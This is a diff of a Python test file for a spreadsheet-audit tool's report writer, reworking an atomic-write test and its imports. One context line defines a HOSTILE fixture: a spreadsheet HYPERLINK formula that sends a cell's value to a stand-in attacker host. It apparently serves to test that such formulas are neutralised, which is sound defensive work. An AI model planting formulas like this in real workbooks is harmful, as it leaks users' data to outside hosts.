@@ -3,14 +3,13 @@ neutralisation, errors sheet, atomic write."""
 
 from __future__ import annotations
 
-import gc
-
 import openpyxl
 import pytest
 
 from checker.config import Config
 from checker.engine import AuditContext, build_rules
 from checker.models import ErrorRecord, Finding, Severity
+from checker.reports.sheetwriter import WorkbookWriter
 from checker.reports.xlsx import FINDING_COLUMNS, write_workbook
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -85,19 +84,16 @@ def test_errors_sheet_and_summary(tmp_path):
     assert summary["读取错误 Input errors"] == 2 and summary["发现问题 Findings"] == 1
 
 
-@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
 def test_write_is_atomic(tmp_path, monkeypatch):
     target = tmp_path / "out.xlsx"
     target.write_bytes(b"previous workbook")
 
-    def boom(self, filename):
-        with open(filename, "wb") as fh:
-            fh.write(b"half")
+    def boom(self):
+        self.zip.close()
         raise OSError("disk full")
 
-    monkeypatch.setattr(openpyxl.Workbook, "save", boom)
+    monkeypatch.setattr(WorkbookWriter, "close", boom)
     with pytest.raises(OSError):
         write_workbook(target, AuditContext(), [finding()], [])
     assert target.read_bytes() == b"previous workbook"
     assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]
-    gc.collect()  # the abandoned write-only sheets complain when collected: let it happen under this test's filter
